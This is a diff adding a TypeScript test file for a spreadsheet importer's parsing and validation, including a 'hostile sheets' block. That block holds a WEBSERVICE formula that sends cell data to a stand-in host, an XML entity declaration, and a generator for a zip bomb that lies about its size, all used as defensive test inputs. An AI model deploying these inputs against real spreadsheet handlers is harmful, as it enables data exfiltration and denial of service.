@@ -1,0 +1,198 @@
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import { gstinFor } from '@poonji/integrations/businesses/identifiers.ts'
+import { xlsxOf } from '../xlsx-of.ts'
+import { rawXlsx, rowXml, sheetOf, sheetXml } from '../testing.ts'
+import type { SheetKind } from '../../status.ts'
+import { readRows, type ReadRow } from './read-rows.ts'
+import { readInWorker } from './read-in-worker.ts'
+import { SheetRefusal } from './refusal.ts'
+
+const read = async (bytes: Uint8Array, kind: SheetKind = 'leads') => {
+  const rows: ReadRow[] = []
+  const notices = await readRows(Buffer.from(bytes), kind, row => rows.push(row))
+  return { rows, notices }
+}
+const refusalOf = async (bytes: Uint8Array, kind: SheetKind = 'leads') => {
+  try {
+    await read(bytes, kind)
+  } catch (error) {
+    if (error instanceof SheetRefusal) return error.why
+    throw error
+  }
+  return null
+}
+const HEAD = ['Company name', 'GSTIN', 'Contact name', 'Mobile', 'Email', 'Loan needed (₹)', 'Note']
+const lead = { companyName: 'Konark Polymers', contactName: 'Asha Rao', contactMobile: '9811112222' }
+const problemsOf = async (more: Record<string, string | number>) =>
+  (await read(await sheetOf('leads', [{ ...lead, ...more }]))).rows[0]?.problems.map(one => [one.column, one.code])
+
+describe('cells of a sheet', () => {
+  test('what a spreadsheet program writes is read: texts, numbers, Hindi, entities, rows left empty', async () => {
+    const gstin = gstinFor('27', 'ZZZCT1001K')
+    const { rows } = await read(
+      await sheetOf('leads', [
+        { ...lead, gstin, contactMobile: 9_811_112_222, need: 640_000.5, note: 'A & B <खाता> "x"' },
+        {},
+        { ...lead, companyName: 'श्री गणेश ट्रेडर्स', contactMobile: '+91 98111 12223', need: '₹ 6,40,000' },
+      ]),
+    )
+    assert.deepEqual(
+      rows.map(row => [row.number, row.problems, row.values.contactMobile, row.values.need, row.values.note]),
+      [
+        [2, [], '9811112222', '640000.5', 'A & B <खाता> "x"'],
+        [4, [], '9811112223', '640000', undefined],
+      ],
+    )
+    assert.equal(rows[0]?.values.gstin, gstin)
+    assert.equal(rows[1]?.values.companyName, 'श्री गणेश ट्रेडर्स')
+  })
+
+  test('columns are known by their titles in either language and any order; others are left out', async () => {
+    const xml = sheetXml(
+      rowXml(1, ['Mobile *', 'कंपनी का नाम *', 'What to do', 'Contact name']) +
+        rowXml(2, ['9811112222', 'Konark', 'Leave one of them', 'Asha Rao']),
+    )
+    const { rows } = await read(await rawXlsx(xml))
+    assert.deepEqual(rows[0]?.given, { contactMobile: '9811112222', companyName: 'Konark', contactName: 'Asha Rao' })
+  })
+
+  test('our own template is read again, in both languages, and each of its lists and notes is in it', async () => {
+    for (const language of ['en', 'hi'] as const)
+      for (const kind of ['leads', 'beneficiaries', 'disbursals'] as const) {
+        const bytes = await xlsxOf(kind, language)
+        assert.equal(await refusalOf(bytes, kind), 'noRows', `${kind} ${language}`)
+      }
+  })
+
+  test('each wrong cell is named by what is wrong with it', async () => {
+    assert.deepEqual(await problemsOf({ companyName: '...' }), [['companyName', 'companyName']])
+    assert.deepEqual(await problemsOf({ gstin: '27ABCDE1234F1Z0' }), [['gstin', 'gstin']])
+    assert.deepEqual(await problemsOf({ contactMobile: '12345' }), [['contactMobile', 'mobile']])
+    assert.deepEqual(await problemsOf({ contactEmail: 'x@y' }), [['contactEmail', 'email']])
+    assert.deepEqual(await problemsOf({ need: 'ten lakh' }), [['need', 'amount']])
+    assert.deepEqual(await problemsOf({ need: 50_000_000 }), [['need', 'amountLimit']])
+    assert.deepEqual(await problemsOf({ contactName: '' }), [['contactName', 'required']])
+    assert.deepEqual(await problemsOf({ note: 'x'.repeat(501) }), [['note', 'tooLong']])
+  })
+
+  test('a number that lost its last digits, a slip in an IFSC and a word that is not in the list are told apart', async () => {
+    const row = { client: 'AAAPL1234C', holderName: 'Steel Co', number: 1234567890123456, ifsc: 'HDFCO000123' }
+    const { rows } = await read(await sheetOf('beneficiaries', [{ ...row, accountType: 'Big' }]), 'beneficiaries')
+    assert.deepEqual(
+      rows[0]?.problems.map(one => [one.column, one.code, one.detail]),
+      [
+        ['number', 'rounded', undefined],
+        ['ifsc', 'ifsc', 'HDFC0000123'],
+        ['accountType', 'choice', undefined],
+      ],
+    )
+  })
+
+  test('the same GSTIN or mobile twice in a sheet names the row where it stands first', async () => {
+    const gstin = gstinFor('27', 'ZZZCT1002K')
+    const { rows } = await read(
+      await sheetOf('leads', [
+        { ...lead, gstin },
+        { ...lead, gstin, contactMobile: '9811112223' },
+        { ...lead, contactMobile: '9811112222' },
+      ]),
+    )
+    assert.deepEqual(
+      rows.map(row => row.problems.map(one => [one.column, one.code, one.detail])),
+      [[], [['gstin', 'twiceInSheet', '2']], [['contactMobile', 'twiceInSheet', '2']]],
+    )
+  })
+})
+
+describe('hostile sheets', () => {
+  const filled = rowXml(1, HEAD) + rowXml(2, ['Konark', '', 'Asha Rao', '9811112222'])
+
+  test('a formula never runs, whatever result it brings along; an error value is named', async () => {
+    const formula = '<c t="str"><f>WEBSERVICE("http://example.com/"&amp;A1)</f><v>Konark</v></c>'
+    const failed = '<c t="e"><v>#REF!</v></c>'
+    const xml = sheetXml(rowXml(1, HEAD) + rowXml(2, [formula, '', failed, '9811112222']))
+    const { rows } = await read(await rawXlsx(xml))
+    assert.deepEqual(
+      rows[0]?.problems.map(one => [one.column, one.code]),
+      [
+        ['companyName', 'formula'],
+        ['contactName', 'errorValue'],
+      ],
+    )
+    assert.equal(rows[0]?.values.companyName, undefined)
+  })
+
+  test('macros and links out are named and left alone', async () => {
+    const more = { 'xl/vbaProject.bin': 'x', 'xl/externalLinks/externalLink1.xml': '<x/>' }
+    const { rows, notices } = await read(await rawXlsx(sheetXml(filled), more))
+    assert.deepEqual([rows.length, notices], [1, ['macros', 'externalLinks']])
+  })
+
+  test('entities of its own, a sheet that ends in the middle, and what is no sheet are broken', async () => {
+    const bomb = `<!DOCTYPE a [<!ENTITY x "aaaa">]>${sheetXml(filled)}`
+    assert.equal(await refusalOf(await rawXlsx(bomb)), 'broken')
+    assert.equal(await refusalOf(await rawXlsx(sheetXml(filled).slice(0, -40))), 'broken')
+    assert.equal(await refusalOf(Buffer.from('PK not a zip')), 'broken')
+    const good = await rawXlsx(sheetXml(filled))
+    assert.equal(await refusalOf(good.subarray(0, good.length - 60)), 'broken')
+    assert.equal(await refusalOf(await rawXlsx(`<a>${'x'.repeat(500_000)}`)), 'broken')
+  })
+
+  test('a million columns, too many rows, no rows, and missing columns each have their answer', async () => {
+    const wide = function* () {
+      yield '<worksheet><sheetData><row r="1">'
+      for (let i = 0; i < 1_000; i++) yield '<c><v>1</v></c>'.repeat(1_000)
+      yield '</row></sheetData></worksheet>'
+    }
+    assert.equal(await refusalOf(await rawXlsx(wide())), 'tooManyColumns')
+    const long = function* () {
+      yield `<worksheet><sheetData>${rowXml(1, HEAD)}`
+      for (let i = 0; i < 101; i++)
+        yield Array.from({ length: 1_000 }, (_, j) => rowXml(2 + i * 1_000 + j, ['K', '', 'A', '1'])).join('')
+      yield '</sheetData></worksheet>'
+    }
+    assert.equal(await refusalOf(await rawXlsx(long())), 'tooManyRows')
+    assert.equal(await refusalOf(await rawXlsx(sheetXml(rowXml(1, HEAD)))), 'noRows')
+    assert.equal(await refusalOf(await rawXlsx(sheetXml(rowXml(1, ['Name', 'Phone'])))), 'columns')
+  })
+
+  /** 270 MB of text that fit into 300 kB; with `told` its size in the archive says so instead. */
+  const bomb = async (told?: number) => {
+    const spaces = ' '.repeat(1_000_000)
+    const pieces = function* () {
+      yield '<worksheet><sheetData>'
+      for (let i = 0; i < 270; i++) yield spaces
+      yield '</sheetData></worksheet>'
+    }
+    const bytes = await rawXlsx(pieces())
+    const directory = bytes.lastIndexOf('xl/worksheets/sheet1.xml') - 46
+    assert.ok(bytes.readUInt32LE(directory + 24) > 250_000_000 && bytes.length < 1_000_000)
+    if (told !== undefined) bytes.writeUInt32LE(told, directory + 24)
+    return bytes
+  }
+
+  test('a zip bomb is refused within 100 ms of crossing its cap, also one that lies about its size', async () => {
+    for (const [bytes, why] of [
+      [await bomb(), 'tooBig'],
+      [await bomb(5_000), 'broken'],
+    ] as const) {
+      const before = process.memoryUsage().rss
+      const began = performance.now()
+      assert.equal(await refusalOf(bytes), why)
+      assert.ok(performance.now() - began < 100, `${performance.now() - began} ms`)
+      assert.ok(process.memoryUsage().rss - before < 50_000_000)
+    }
+  })
+
+  test('in the thread a refusal is the same, and what needs too much memory is refused, not fatal', async () => {
+    const none = () => Promise.resolve()
+    const why = (expected: string) => (error: unknown) => error instanceof SheetRefusal && error.why === expected
+    const big = await bomb()
+    await assert.rejects(() => readInWorker(big, 'leads', none), why('tooBig'))
+    await assert.rejects(() => readInWorker(Buffer.from('nothing'), 'leads', none), why('broken'))
+    const fault = new Error('the database is away')
+    const good = await rawXlsx(sheetXml(filled))
+    await assert.rejects(() => readInWorker(good, 'leads', () => Promise.reject(fault)), fault)
+  })
+})
